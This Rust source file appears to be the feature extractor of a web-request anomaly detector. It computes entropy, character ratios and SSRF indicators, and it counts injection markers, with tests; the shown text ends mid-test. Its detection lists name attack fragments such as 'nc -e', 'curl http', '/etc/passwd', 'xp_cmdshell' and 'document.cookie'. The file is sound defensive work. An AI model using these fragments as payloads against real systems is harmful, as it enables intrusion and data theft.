//! Per-request features from the request line, body and user agent: sizes, character
//! classes, entropy, URLs in parameters (SSRF) and injection markers.
//!
//! Cheap first: sizes, classes and entropy are one pass over each string with a table of
//! `c·log2(c)`; the marker search (percent-decoding, lower-casing, substring search) only
//! runs on strings that could hold a marker: with a byte most injections need (a quote,
//! `<`, `%`, …), a doubled `.`, `&`, `-` or `{`, or one of the markers made of none of
//! those (`/etc/passwd`, `whoami`, …) found in them directly.

use aho_corasick::{AhoCorasick, MatchKind};
use memchr::memmem;

/// Longest string scanned (longer input is cut; the ingest schema bounds strings anyway).
const MAX_SCAN: usize = 8192;

/// Markers per class; counts are summed over path, query, body and user agent.
const SQLI: &[&str] = &[
    "' or ",
    "' or'",
    "\" or ",
    " or 1=1",
    "'or'1'='1",
    "or '1'='1",
    "union select",
    "union all select",
    "select ",
    " from ",
    "';",
    "--",
    "/*",
    "sleep(",
    "benchmark(",
    "waitfor delay",
    "information_schema",
    "' and ",
    "drop table",
    "xp_cmdshell",
    "pg_sleep",
    "1 or ",
    " or true",
    "json_extract(",
    "extractvalue(",
    "updatexml(",
    "$ne",
    "$gt\"",
    "$where",
    "$regex",
];
const XSS: &[&str] = &[
    "<script",
    "javascript:",
    "onerror=",
    "onload=",
    "<svg",
    "<iframe",
    "<img",
    "alert(",
    "document.cookie",
];
const TRAVERSAL: &[&str] = &[
    "../",
    "..\\",
    "/etc/passwd",
    "c:\\windows",
    "/proc/self",
    "win.ini",
    ".htaccess",
];
const CMD: &[&str] = &[
    "${",
    "$(",
    "`",
    "{{",
    "; cat ",
    "|cat ",
    "| cat ",
    "&& ",
    "; ls",
    "|ls",
    "/bin/sh",
    "/bin/bash",
    "nc -e",
    "; id",
    "|id",
    "| id",
    "|| ",
    "whoami",
    "wget http",
    "curl http",
    ";sleep",
    "; sleep",
];

/// The lexical features of one request.
#[derive(Debug, Clone, Copy, Default, PartialEq)]
pub struct Lexical {
    /// Non-empty path segments.
    pub path_depth: f32,
    /// Path bytes.
    pub path_len: f32,
    /// Query bytes.
    pub query_len: f32,
    /// Query parameters.
    pub query_params: f32,
    /// Body bytes.
    pub body_len: f32,
    /// Entropies, bits per byte.
    pub path_entropy: f32,
    /// Query entropy.
    pub query_entropy: f32,
    /// Body entropy.
    pub body_entropy: f32,
    /// Class ratios.
    pub path_digit_ratio: f32,
    /// Path special-character ratio.
    pub path_special_ratio: f32,
    /// Query digit ratio.
    pub query_digit_ratio: f32,
    /// Query special-character ratio.
    pub query_special_ratio: f32,
    /// Body special-character ratio.
    pub body_special_ratio: f32,
    /// Longest query parameter value.
    pub max_param_len: f32,
    /// Parameters holding URLs or addresses.
    pub param_url: f32,
    /// A URL or address names an internal host.
    pub param_internal_host: f32,
    /// Marker counts.
    pub sqli: f32,
    /// XSS markers.
    pub xss: f32,
    /// Traversal markers.
    pub traversal: f32,
    /// Command/template injection markers.
    pub cmd: f32,
    /// Null bytes.
    pub null_bytes: f32,
    /// Share of path+query bytes inside `%XX` escapes.
    pub encoded_ratio: f32,
}

/// What [`Lexer::profile`] finds in one string.
#[derive(Debug, Clone, Copy, Default)]
struct ByteProfile {
    /// Bits per byte.
    entropy: f32,
    /// Share of digits.
    digit_ratio: f32,
    /// Share of bytes special in the string's part of the request.
    special_ratio: f32,
    /// Whether the string may hold a marker and must be scanned for them.
    scan: bool,
    /// Whether the string holds a `%` (else decoding it only folds its case).
    escaped: bool,
}

/// Reusable scanner (tables, finders and scratch buffers).
pub struct Lexer {
    /// `c·log2(c)` for every count a scanned string can reach.
    xlogx: Box<[f32; MAX_SCAN + 1]>,
    /// `log2(n)` (as `f32::log2` gives it) for every length a scanned string can have.
    log2: Box<[f32; MAX_SCAN + 1]>,
    counts: Box<[u32; 256]>,
    /// The distinct bytes of the string being profiled, in order of first appearance. A
    /// byte is written before it is known to be new, at a place masked into range instead
    /// of checked, so there are twice as many places as the 256 distinct bytes need.
    distinct: Box<[u8; 512]>,
    scratch: Vec<u8>,
    scratch2: Vec<u8>,
    /// Every marker of every class in one automaton; `class[pattern]` says which class.
    markers: AhoCorasick,
    class: Vec<u8>,
    /// Each [quiet](is_quiet) marker: its bytes as a set of [`BYTE_BITS`] (a string can
    /// hold the marker only when it holds every one of them, in either case) and a finder
    /// for it.
    quiet_markers: Vec<(u64, memmem::Finder<'static>)>,
}

/// Bytes whose doubling (`..`, `&&`, `--`, `{{`) starts a marker, though each alone is
/// benign. A `{` opens every JSON body, so as a [`suspicious`] byte it would send every
/// JSON body to the marker search.
const fn doubled_marker(c: u8) -> bool {
    matches!(c, b'.' | b'&' | b'-' | b'{')
}

/// Whether `s` holds `..`, `&&`, `--` or `{{`.
fn holds_doubled_marker(s: &[u8]) -> bool {
    s.windows(2).any(|w| w[0] == w[1] && doubled_marker(w[0]))
}

impl std::fmt::Debug for Lexer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Lexer").finish_non_exhaustive()
    }
}

impl Default for Lexer {
    fn default() -> Self {
        Self::new()
    }
}

#[inline]
const fn is_special_path(c: u8) -> bool {
    !(c.is_ascii_alphanumeric() || matches!(c, b'/' | b'-' | b'_' | b'.' | b'~'))
}
#[inline]
const fn is_special_query(c: u8) -> bool {
    !(c.is_ascii_alphanumeric() || matches!(c, b'&' | b'=' | b'-' | b'_' | b'.' | b'~' | b'+'))
}
#[inline]
const fn is_special_body(c: u8) -> bool {
    !(c.is_ascii_alphanumeric()
        || c.is_ascii_whitespace()
        || matches!(
            c,
            b'{' | b'}' | b'[' | b']' | b':' | b',' | b'"' | b'.' | b'-' | b'_' | b'@'
        ))
}
/// Bytes without which none of the markers can occur (raw or percent-encoded), but for
/// the markers found by a doubled byte ([`doubled_marker`]) and the [quiet](is_quiet) ones.
/// A double quote is not among them, though two markers hold one (`" or `, `$gt"`): each
/// also holds a space or a `$`, and JSON bodies are full of double quotes.
#[inline]
const fn suspicious(c: u8) -> bool {
    matches!(
        c,
        b'\'' | b'<' | b'>' | b';' | b'|' | b'$' | b'`' | b'(' | b'\\' | b'%' | b'+' | b' ' | 0
    )
}

/// Byte classes, one bit each, looked up once per byte by the profile scan.
const DIGIT: u8 = 1;
const SPECIAL_PATH: u8 = 2;
const SPECIAL_QUERY: u8 = 4;
const SPECIAL_BODY: u8 = 8;
const DOUBLED: u8 = 16;
/// [`BYTE_BITS`] of `%`.
const PERCENT_BIT: u64 = 1 << 61;

/// `b` when `on`, else 0.
const fn bit(on: bool, b: u8) -> u8 {
    if on { b } else { 0 }
}
static CLASS: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut i = 0;
    while i < 256 {
        let c = i as u8;
        t[i] = bit(c.is_ascii_digit(), DIGIT)
            | bit(is_special_path(c), SPECIAL_PATH)
            | bit(is_special_query(c), SPECIAL_QUERY)
            | bit(is_special_body(c), SPECIAL_BODY)
            | bit(doubled_marker(c), DOUBLED);
        i += 1;
    }
    t
};

/// Whether a marker is quiet: it has no [`suspicious`] byte and no doubled `.`, `&`, `{` or
/// `-`, so the cheap tests of [`Lexer::profile`] cannot see it coming, and it is looked
/// for by its bytes instead.
const fn is_quiet(p: &[u8]) -> bool {
    let mut i = 0;
    while i < p.len() {
        if suspicious(p[i]) || (i + 1 < p.len() && p[i] == p[i + 1] && doubled_marker(p[i])) {
            return false;
        }
        i += 1;
    }
    true
}

/// [`BYTE_BITS`] of upper-case letters.
const UPPER_BIT: u64 = 1 << 63;
/// [`BYTE_BITS`] of [`suspicious`] bytes.
const SUSPICIOUS_BIT: u64 = 1 << 62;

/// What the profile scan ORs together over a string's distinct bytes, one word per byte:
/// the byte's own bit among the quiet markers' bytes (upper and lower case share one;
/// bytes in no quiet marker have none), and [`UPPER_BIT`], [`SUSPICIOUS_BIT`] and
/// [`PERCENT_BIT`]. The quiet markers use fewer than 61 distinct bytes, so one word says
/// which of their bytes a string holds, and whether it holds a suspicious byte, an
/// upper-case one or a `%`.
static BYTE_BITS: [u64; 256] = {
    let mut t = [0u64; 256];
    let lists = [SQLI, XSS, TRAVERSAL, CMD];
    let mut next = 0;
    let mut l = 0;
    while l < lists.len() {
        let mut k = 0;
        while k < lists[l].len() {
            let p = lists[l][k].as_bytes();
            // A marker that is not quiet gives no bytes (its loop runs zero times).
            let mut j = if is_quiet(p) { 0 } else { p.len() };
            while j < p.len() {
                let c = p[j].to_ascii_lowercase();
                if t[c as usize] == 0 {
                    assert!(
                        next < 61,
                        "the quiet markers use more than 61 distinct bytes"
                    );
                    t[c as usize] = 1 << next;
                    t[c.to_ascii_uppercase() as usize] = 1 << next;
                    next += 1;
                }
                j += 1;
            }
            k += 1;
        }
        l += 1;
    }
    let mut i = 0;
    while i < 256 {
        let c = i as u8;
        if c.is_ascii_uppercase() {
            t[i] |= UPPER_BIT;
        }
        if suspicious(c) {
            t[i] |= SUSPICIOUS_BIT;
        }
        if c == b'%' {
            t[i] |= PERCENT_BIT;
        }
        i += 1;
    }
    t
};

fn hex(c: u8) -> Option<u8> {
    match c {
        b'0'..=b'9' => Some(c - b'0'),
        b'a'..=b'f' => Some(c - b'a' + 10),
        b'A'..=b'F' => Some(c - b'A' + 10),
        _ => None,
    }
}

/// A byte as the marker search reads it outside an escape: lower-cased, `+` as a space.
#[inline]
fn fold_byte(c: u8) -> u8 {
    if c == b'+' {
        b' '
    } else {
        c.to_ascii_lowercase()
    }
}

/// `s` folded byte by byte ([`fold_byte`]) into `out` (in place of its contents): what
/// [`decode_lower`] makes of a string without a `%`, in one loop without branches.
fn fold_lower(s: &[u8], out: &mut Vec<u8>) {
    out.clear();
    out.extend(s.iter().map(|&c| fold_byte(c)));
}

/// Percent-decodes (and `+` → space) into `out`, lower-cased.
fn decode_lower(s: &[u8], out: &mut Vec<u8>) {
    // The bytes before the first `%` only need folding (which also empties `out`).
    let mut i = memchr::memchr(b'%', s).unwrap_or(s.len());
    fold_lower(&s[..i], out);
    while i < s.len() {
        let c = s[i];
        if c == b'%'
            && i + 2 < s.len()
            && let (Some(h), Some(l)) = (hex(s[i + 1]), hex(s[i + 2]))
        {
            out.push((h * 16 + l).to_ascii_lowercase());
            i += 3;
            continue;
        }
        out.push(fold_byte(c));
        i += 1;
    }
}

fn is_ipv4(s: &[u8]) -> bool {
    let mut parts = 0;
    for p in s.split(|&c| c == b'.') {
        if p.is_empty() || p.len() > 3 || !p.iter().all(u8::is_ascii_digit) {
            return false;
        }
        parts += 1;
    }
    parts == 4
}

/// Position of the first `needle` (not empty) in `v`. The lexer's needles are a few bytes
/// long: a `memchr` for the first byte and a look at the next ones is cheaper than
/// building a substring searcher for every value.
fn find(v: &[u8], needle: &[u8]) -> Option<usize> {
    memchr::memchr_iter(needle[0], v).find(|&i| v[i..].starts_with(needle))
}

/// Non-empty `/`-separated segments of a path: bytes other than `/` that follow a `/` or
/// start the path.
fn segments(p: &[u8]) -> usize {
    let mut count = 0;
    let mut after_slash = true;
    for &c in p {
        let slash = c == b'/';
        count += usize::from(after_slash & !slash);
        after_slash = slash;
    }
    count
}

/// Host part of a lower-cased URL-ish value: after `scheme://` (or `//`), before `/:?#@`.
fn host_of(v: &[u8]) -> &[u8] {
    let start = find(v, b"//").map_or(0, |p| p + 2);
    let rest = &v[start..];
    // Userinfo: `http://user@host`.
    let rest = match rest.iter().position(|&c| matches!(c, b'/' | b'?' | b'#')) {
        Some(end) => &rest[..end],
        None => rest,
    };
    let rest = match rest.iter().rposition(|&c| c == b'@') {
        Some(at) => &rest[at + 1..],
        None => rest,
    };
    if rest.first() == Some(&b'[') {
        return rest;
    }
    match rest.iter().position(|&c| c == b':') {
        Some(p) => &rest[..p],
        None => rest,
    }
}

fn internal_host(h: &[u8]) -> bool {
    if h.is_empty() {
        return false;
    }
    if h == b"localhost"
        || h.ends_with(b".localhost")
        || h.ends_with(b".internal")
        || h.ends_with(b".local")
        || h.starts_with(b"[::1]")
        || h.starts_with(b"[fd")
        || h.starts_with(b"[fe80")
        || h.starts_with(b"[::ffff:")
        || h == b"0.0.0.0"
        || h == b"0"
    {
        return true;
    }
    // Integer or hex encodings of an address (`2130706433`, `0x7f000001`) only serve to
    // slip past filters.
    if h.iter().all(u8::is_ascii_digit) || (h.starts_with(b"0x") && h.len() > 2) {
        return true;
    }
    if is_ipv4(h) {
        let o: Vec<u16> = h
            .split(|&c| c == b'.')
            .map(|p| p.iter().fold(0u16, |a, &d| a * 10 + u16::from(d - b'0')))
            .collect();
        return o[0] == 127
            || o[0] == 10
            || o[0] == 0
            || (o[0] == 169 && o[1] == 254)
            || (o[0] == 192 && o[1] == 168)
            || (o[0] == 172 && (16..=31).contains(&o[1]))
            || (o[0] == 100 && (64..=127).contains(&o[1]));
    }
    false
}

impl Lexer {
    /// A scanner with its tables built.
    pub fn new() -> Self {
        let mut xlogx = Box::new([0.0f32; MAX_SCAN + 1]);
        let mut log2 = Box::new([0.0f32; MAX_SCAN + 1]);
        for c in 1..=MAX_SCAN {
            xlogx[c] = (c as f64 * (c as f64).log2()) as f32;
            log2[c] = (c as f32).log2();
        }
        let mut patterns = Vec::new();
        let mut class = Vec::new();
        for (c, list) in [SQLI, XSS, TRAVERSAL, CMD].into_iter().enumerate() {
            patterns.extend_from_slice(list);
            class.extend(std::iter::repeat_n(c as u8, list.len()));
        }
        let markers = AhoCorasick::builder()
            .match_kind(MatchKind::Standard)
            .build(&patterns)
            .expect("the marker patterns are valid");
        let quiet_markers = patterns
            .iter()
            .map(|p| p.as_bytes())
            .filter(|p| is_quiet(p))
            .map(|p| {
                (
                    p.iter().fold(0, |set, &c| set | BYTE_BITS[usize::from(c)]),
                    memmem::Finder::new(p).into_owned(),
                )
            })
            .collect();
        Self {
            xlogx,
            log2,
            counts: Box::new([0; 256]),
            distinct: Box::new([0; 512]),
            scratch: Vec::with_capacity(1024),
            scratch2: Vec::with_capacity(1024),
            markers,
            class,
            quiet_markers,
        }
    }

    /// The [`ByteProfile`] of `s` (its first `MAX_SCAN` bytes) under `special`: entropy
    /// (bits/byte), digit and special shares, whether it holds a `%` (anywhere), and
    /// whether it may hold a marker and must be scanned for them: when it holds a
    /// [`suspicious`] byte (`%` among them, for encoded forms), a doubled `.`, `&`, `-` or
    /// `{`, or one of the other markers in upper or lower case (see
    /// [`holds_quiet_marker`](Self::holds_quiet_marker)).
    fn profile(&mut self, s: &[u8], special: u8) -> ByteProfile {
        // A `%` past the scanned part still counts as one (it is rare enough to look for).
        let escaped_later = s.len() > MAX_SCAN && memchr::memchr(b'%', &s[MAX_SCAN..]).is_some();
        let s = &s[..s.len().min(MAX_SCAN)];
        if s.is_empty() {
            return ByteProfile::default();
        }
        // The byte loop only counts; everything else is worked out once per distinct byte
        // from its count (a string has a few dozen distinct bytes, and many more bytes).
        let mut kinds = 0usize;
        for &c in s {
            let n = self.counts[c as usize];
            self.counts[c as usize] = n + 1;
            // Written every time, kept only at the byte's first appearance.
            self.distinct[kinds & 511] = c;
            kinds += usize::from(n == 0);
        }
        let mut digits = 0u32;
        let mut spec = 0u32;
        // A lone `.`, `&`, `-` or `{` is benign and their doubles are markers, so the string
        // is only searched for a double when it holds two of one of them.
        let mut pair_possible = false;
        // The quiet markers' bytes present, and whether any byte is upper case or
        // suspicious.
        let mut bits = 0u64;
        // Summed in order of first appearance, one term per distinct byte.
        let mut sum = 0.0f32;
        for &c in &self.distinct[..kinds] {
            let n = self.counts[c as usize];
            sum += self.xlogx[(n as usize).min(MAX_SCAN)];
            let class = CLASS[c as usize];
            digits += u32::from(class & DIGIT) * n;
            spec += u32::from(class & special != 0) * n;
            bits |= BYTE_BITS[c as usize];
            pair_possible |= (n >= 2) & (class & DOUBLED != 0);
            self.counts[c as usize] = 0;
        }
        let sus = bits & SUSPICIOUS_BIT != 0
            || (pair_possible && holds_doubled_marker(s))
            || self.holds_quiet_marker(s, bits);
        let n = s.len() as f32;
        ByteProfile {
            entropy: (self.log2[s.len()] - sum / n).max(0.0),
            digit_ratio: digits as f32 / n,
            special_ratio: spec as f32 / n,
            scan: sus,
            escaped: bits & PERCENT_BIT != 0 || escaped_later,
        }
    }

    /// Whether `s` (with no suspicious byte, so nothing to decode) holds one of the quiet
    /// markers once lower-cased. `bits` holds the [`BYTE_BITS`] of `s`'s bytes (as
    /// [`profile`](Self::profile) gathered them); only markers whose bytes are all
    /// present are searched for.
    fn holds_quiet_marker(&mut self, s: &[u8], bits: u64) -> bool {
        let upper = bits & UPPER_BIT != 0;
        let mut lower = std::mem::take(&mut self.scratch);
        let mut folded = false;
        let found = self.quiet_markers.iter().any(|&(bytes, ref finder)| {
            if bytes & !bits != 0 {
                return false;
            }
            if !upper {
                return finder.find(s).is_some();
            }
            if !folded {
                lower.clear();
                lower.extend(s.iter().map(u8::to_ascii_lowercase));
                folded = true;
            }
            finder.find(&lower).is_some()
        });
        self.scratch = lower;
        found
    }

    /// Counts markers of each class in `s` (already decoded and lower-cased).
    fn markers(&self, s: &[u8], out: &mut Lexical) {
        // Overlapping matches, so every marker present counts (as separate searches
        // would), capped so a hostile body cannot make the count itself expensive.
        let mut counts = [0u32; 4];
        for m in self.markers.find_overlapping_iter(s).take(256) {
            counts[self.class[m.pattern().as_usize()] as usize] += 1;
        }
        out.sqli += counts[0] as f32;
        out.xss += counts[1] as f32;
        out.traversal += counts[2] as f32;
        out.cmd += counts[3] as f32;
        out.null_bytes += memchr::memchr_iter(0, s).take(64).count() as f32;
    }

    /// Decodes `raw` (twice when it was double-encoded) and counts its markers. Without
    /// a `%` (`escaped` false) decoding only folds the case, and cannot make a `%`.
    fn scan(&mut self, raw: &[u8], escaped: bool, out: &mut Lexical) {
        let raw = &raw[..raw.len().min(MAX_SCAN)];
        let mut buf = std::mem::take(&mut self.scratch);
        if !escaped {
            fold_lower(raw, &mut buf);
            self.markers(&buf, out);
            self.scratch = buf;
            return;
        }
        decode_lower(raw, &mut buf);
        if memchr::memchr(b'%', &buf).is_some() {
            let mut buf2 = std::mem::take(&mut self.scratch2);
            decode_lower(&buf, &mut buf2);
            self.markers(&buf2, out);
            self.scratch2 = buf2;
        } else {
            self.markers(&buf, out);
        }
        self.scratch = buf;
    }

    /// Checks a parameter's raw value (query string or form body) for a URL or address;
    /// only values that could hold one are decoded.
    #[inline]
    fn param_value(&mut self, v: &[u8], out: &mut Lexical) {
        if v.len() >= 4
            && v.iter()
                .any(|&c| c == b'/' || c == b'.' || c == b'%' || c == b':')
        {
            self.url_value(v, out);
        }
    }

    fn url_value(&mut self, v: &[u8], out: &mut Lexical) {
        let mut buf = std::mem::take(&mut self.scratch);
        decode_lower(v, &mut buf);
        let has_scheme = find(&buf, b"://").is_some()
            || buf.starts_with(b"//")
            || buf.starts_with(b"file:")
            || buf.starts_with(b"gopher:")
            || buf.starts_with(b"dict:");
        let host = host_of(&buf);
        if has_scheme || is_ipv4(host) || host.starts_with(b"[") {
            out.param_url += 1.0;
            if buf.starts_with(b"file:") || internal_host(host) {
                out.param_internal_host = 1.0;
            }
        }
        self.scratch = buf;
    }

    /// The features of one request.
    pub fn features(
        &mut self,
        path: &str,
        query: Option<&str>,
        body: Option<&str>,
        user_agent: Option<&str>,
    ) -> Lexical {
        let mut out = Lexical::default();
        let p = path.as_bytes();
        let q = query.unwrap_or("").as_bytes();
        let b = body.unwrap_or("").as_bytes();
        out.path_len = p.len() as f32;
        out.query_len = q.len() as f32;
        out.body_len = b.len() as f32;
        out.path_depth = segments(p) as f32;
        let pp = self.profile(p, SPECIAL_PATH);
        (
            out.path_entropy,
            out.path_digit_ratio,
            out.path_special_ratio,
        ) = (pp.entropy, pp.digit_ratio, pp.special_ratio);
        let qp = self.profile(q, SPECIAL_QUERY);
        (
            out.query_entropy,
            out.query_digit_ratio,
            out.query_special_ratio,
        ) = (qp.entropy, qp.digit_ratio, qp.special_ratio);
        let bp = self.profile(b, SPECIAL_BODY);
        (out.body_entropy, out.body_special_ratio) = (bp.entropy, bp.special_ratio);
        // Percent escapes.
        let escapes = |s: &[u8]| {
            s.windows(3)
                .filter(|w| w[0] == b'%' && hex(w[1]).is_some() && hex(w[2]).is_some())
                .count()
        };
        let pq = p.len() + q.len();
        if pq > 0 && (pp.escaped || qp.escaped) {
            out.encoded_ratio = (3 * (escapes(p) + escapes(q))) as f32 / pq as f32;
        }
        // Parameters.
        if !q.is_empty() {
            for param in q.split(|&c| c == b'&') {
                if param.is_empty() {
                    continue;
                }
                out.query_params += 1.0;
                let v = match param.iter().position(|&c| c == b'=') {
                    Some(i) => &param[i + 1..],
                    None => &[][..],
                };
                out.max_param_len = out.max_param_len.max(v.len() as f32);
                self.param_value(v, &mut out);
            }
        }
        // URLs and addresses in body values. A form body (`a=1&url=http://…`: it does not
        // open like JSON or XML and holds a `=`) is checked field by field like a query
        // string; any other body, string by string (every double-quoted value).
        let body = &b[..b.len().min(MAX_SCAN)];
        let opening = body.iter().find(|c| !c.is_ascii_whitespace());
        if opening.is_some_and(|c| !matches!(c, b'{' | b'[' | b'<'))
            && memchr::memchr(b'=', body).is_some()
        {
            for field in body.split(|&c| c == b'&') {
                if let Some(i) = memchr::memchr(b'=', field) {
                    self.param_value(&field[i + 1..], &mut out);
                }
            }
        } else if opening.is_some() {
            // One search of the whole body first: most bodies hold no URL, and then each
            // string costs only a look at its first byte.
            let urls = find(body, b"://").is_some() || find(body, b"file:").is_some();
            let mut rest = body;
            while let Some(i) = memchr::memchr(b'"', rest) {
                rest = &rest[i + 1..];
                let end = memchr::memchr(b'"', rest).unwrap_or(rest.len());
                let v = &rest[..end];
                // A URL, or a bare address (`"10.0.0.5"`, `"10.0.0.5:8080/x"`); the
                // address check only runs for strings that start with a digit.
                if (urls && (find(v, b"://").is_some() || v.starts_with(b"file:")))
                    || (v.first().is_some_and(u8::is_ascii_digit) && is_ipv4(host_of(v)))
                {
                    self.url_value(v, &mut out);
                }
                rest = &rest[(end + 1).min(rest.len())..];
            }
        }
        // Markers.
        if pp.scan {
            self.scan(p, pp.escaped, &mut out);
        }
        if qp.scan {
            self.scan(q, qp.escaped, &mut out);
        }
        if bp.scan {
            self.scan(b, bp.escaped, &mut out);
        }
        if let Some(ua) = user_agent {
            self.user_agent_markers(ua).add_to(&mut out);
        }
        out
    }

    /// The features of one request without its user agent: [`features`](Self::features)
    /// less the user agent's [`Markers`], which depend on the user agent alone and can be
    /// computed once per distinct value (add them with [`Markers::add_to`]).
    pub fn request_features(
        &mut self,
        path: &str,
        query: Option<&str>,
        body: Option<&str>,
    ) -> Lexical {
        self.features(path, query, body, None)
    }

    /// The injection markers in a user agent.
    pub fn user_agent_markers(&mut self, ua: &str) -> Markers {
        let ua = ua.as_bytes();
        let mut out = Lexical::default();
        // Once per distinct user agent (see `request_features`): cheap enough to scan
        // every one whole.
        if !ua.is_empty() {
            self.scan(ua, memchr::memchr(b'%', ua).is_some(), &mut out);
        }
        Markers {
            sqli: out.sqli,
            xss: out.xss,
            traversal: out.traversal,
            cmd: out.cmd,
            null_bytes: out.null_bytes,
        }
    }
}

/// Marker counts of one string (see [`Lexer::user_agent_markers`]).
#[derive(Debug, Clone, Copy, Default, PartialEq)]
pub struct Markers {
    /// SQL and NoSQL injection markers.
    pub sqli: f32,
    /// Script markers.
    pub xss: f32,
    /// Path traversal markers.
    pub traversal: f32,
    /// Command and template injection markers.
    pub cmd: f32,
    /// Null bytes.
    pub null_bytes: f32,
}

impl Markers {
    /// Adds these counts to a request's features. Counts are small whole numbers, exact in
    /// `f32`, so the sum does not depend on the order the strings are scanned in.
    #[inline]
    pub fn add_to(&self, l: &mut Lexical) {
        l.sqli += self.sqli;
        l.xss += self.xss;
        l.traversal += self.traversal;
        l.cmd += self.cmd;
        l.null_bytes += self.null_bytes;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The next value of a xorshift generator: random strings that repeat from run to run.
    fn xorshift(x: &mut u64) -> u64 {
        *x ^= *x << 13;
        *x ^= *x >> 7;
        *x ^= *x << 17;
        *x
    }

    #[test]
    fn benign_requests_have_no_markers() {
        let mut l = Lexer::new();
        let f = l.features(
            "/api/v1/products/123",
            Some("q=red+shoes&page=2&sort=price.asc"),
            Some(r#"{"name":"Ann Lee","qty":2}"#),
            Some("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"),
        );
        assert_eq!(f.path_depth, 4.0);
        assert_eq!(f.query_params, 3.0);
        assert_eq!(f.max_param_len, 9.0);
        assert_eq!(
            f.sqli + f.xss + f.traversal + f.cmd + f.null_bytes,
            0.0,
            "{f:?}"
        );
        assert_eq!(f.param_url, 0.0);
        assert!(f.path_entropy > 2.0 && f.path_entropy < 5.0);
        assert!(f.path_digit_ratio > 0.1);
    }

    /// The short search and the segment count against their plain definitions, on random
    /// strings over an alphabet thick with `/` and `:`.
    #[test]
    fn small_searches_match_their_definitions() {
        let mut x = 0x2545_F491_4F6C_DD1Du64;
        for len in 0..400usize {
            let s: Vec<u8> = (0..len % 40)
                .map(|_| b"//:a."[(xorshift(&mut x) % 5) as usize])
                .collect();
            let text = std::str::from_utf8(&s).expect("ascii");
            for needle in [&b"//"[..], b"://", b"a:"] {
                assert_eq!(
                    find(&s, needle),
                    s.windows(needle.len()).position(|w| w == needle),
                    "{text}"
                );
            }
            assert_eq!(
                segments(&s),
                text.split('/').filter(|seg| !seg.is_empty()).count(),
                "{text}"
            );
        }
    }

    #[test]
    fn entropy_matches_the_definition() {
        let mut l = Lexer::new();
        // Every byte value, then again: 256 distinct bytes, each twice (8 bits).
        let all: Vec<u8> = (0..=255u8).chain(0..=255u8).collect();
        let e = l.profile(&all, SPECIAL_BODY).entropy;
        assert!((e - 8.0).abs() < 1e-5, "{e}");
        // A naive entropy over random strings, and the histogram left clear after each.
        let mut x = 0x9E37_79B9_7F4A_7C15u64;
        for len in 1..300usize {
            let s: Vec<u8> = (0..len)
                // Few distinct values in short strings, many in long ones.
                .map(|_| (xorshift(&mut x) % (len as u64).min(256)) as u8)
                .collect();
            let mut n = [0f64; 256];
            s.iter().for_each(|&c| n[c as usize] += 1.0);
            let naive: f64 = n
                .iter()
                .filter(|&&k| k > 0.0)
                .map(|&k| -(k / len as f64) * (k / len as f64).log2())
                .sum();
            let e = l.profile(&s, SPECIAL_BODY).entropy;
            assert!((f64::from(e) - naive).abs() < 1e-4, "{len}: {e} vs {naive}");
            assert!(l.counts.iter().all(|&k| k == 0));
        }
        let f = l.features("aabb", None, None, None);
        assert!((f.path_entropy - 1.0).abs() < 1e-6);
        let f = l.features("aaaa", None, None, None);
        assert_eq!(f.path_entropy, 0.0);
        // The histogram is cleared between calls.
        let f = l.features("abcd", None, None, None);
        assert!((f.path_entropy - 2.0).abs() < 1e-6);
    }

    #[test]
    fn every_marker_is_counted_wherever_it_stands() {
        let mut l = Lexer::new();
        let count = |f: &Lexical, class: usize| [f.sqli, f.xss, f.traversal, f.cmd][class];
        for (class, list) in [SQLI, XSS, TRAVERSAL, CMD].into_iter().enumerate() {
            for m in list {
                for m in [m.to_string(), m.to_ascii_uppercase()] {
                    let in_path = l.features(&format!("/api/v1/x{m}y"), None, None, None);
                    let in_query = l.features("/api/v1/x", Some(&format!("v=a{m}b")), None, None);
                    let body = format!(r#"{{"v":"a{m}b"}}"#);
                    let in_body = l.features("/api/v1/x", None, Some(&body), None);
                    let mut in_agent = Lexical::default();
                    l.user_agent_markers(&format!("agent/1.0 {m}"))
                        .add_to(&mut in_agent);
                    for (place, f) in [
                        ("path", in_path),
                        ("query", in_query),
                        ("body", in_body),
                        ("user agent", in_agent),
                    ] {
                        let n = count(&f, class);
                        assert!(n >= 1.0, "{m:?} in the {place} was not counted");
                    }
                }
            }
        }
    }

    /// Escapes past the scanned part of a long string still count in the encoded share.
    #[test]
    fn escapes_past_the_scanned_part_count() {
        let mut l = Lexer::new();
        let path = format!("/{}%2e%2e", "a".repeat(MAX_SCAN + 100));
        let f = l.features(&path, None, None, None);
        assert_eq!(f.encoded_ratio, 6.0 / path.len() as f32);
        let f = l.features("/a", Some(&path), None, None);
        assert_eq!(f.encoded_ratio, 6.0 / (path.len() + 2) as f32);
    }

    /// The decoder against a byte-at-a-time definition, on random strings thick with
    /// escapes (valid, broken and cut short), `+` and upper case.
    #[test]
    fn decoding_matches_its_definition() {
        fn plain(s: &[u8]) -> Vec<u8> {
            let mut out = Vec::new();
            let mut i = 0;
            while i < s.len() {
                let escape = s
                    .get(i + 1..i + 3)
                    .filter(|_| s[i] == b'%' && i + 2 < s.len());
                match escape.map(|h| (hex(h[0]), hex(h[1]))) {
                    Some((Some(h), Some(l))) => {
                        out.push((h * 16 + l).to_ascii_lowercase());
                        i += 3;
                    }
                    _ => {
                        out.push(match s[i] {
                            b'+' => b' ',
                            c => c.to_ascii_lowercase(),
                        });
                        i += 1;
                    }
                }
            }
            out
        }
        let alphabet = b"%%2F4a+AZz0-";
        let mut x = 0x2545_F491_4F6C_DD1Du64;
        let mut out = Vec::new();
        for len in 0..300usize {
            let s: Vec<u8> = (0..len % 60)
                .map(|_| alphabet[(xorshift(&mut x) % alphabet.len() as u64) as usize])
                .collect();
            decode_lower(&s, &mut out);
            assert_eq!(out, plain(&s), "{:?}", String::from_utf8_lossy(&s));
        }
    }

    /// Every marker, each byte percent-encoded once or twice, is still counted; and the
    /// benign URL around it alone counts nothing.
    #[test]
    fn every_encoded_marker_is_counted() {
        let mut l = Lexer::new();
        let count = |f: &Lexical, class: usize| [f.sqli, f.xss, f.traversal, f.cmd][class];
        let url = "https%3A%2F%2Fcdn.example%2Fp%2F1.jpg";
        let plain = l.features("/x", Some(&format!("u={url}")), None, None);
        assert_eq!(plain.sqli + plain.xss + plain.traversal + plain.cmd, 0.0);
        for (class, list) in [SQLI, XSS, TRAVERSAL, CMD].into_iter().enumerate() {
            for m in list {
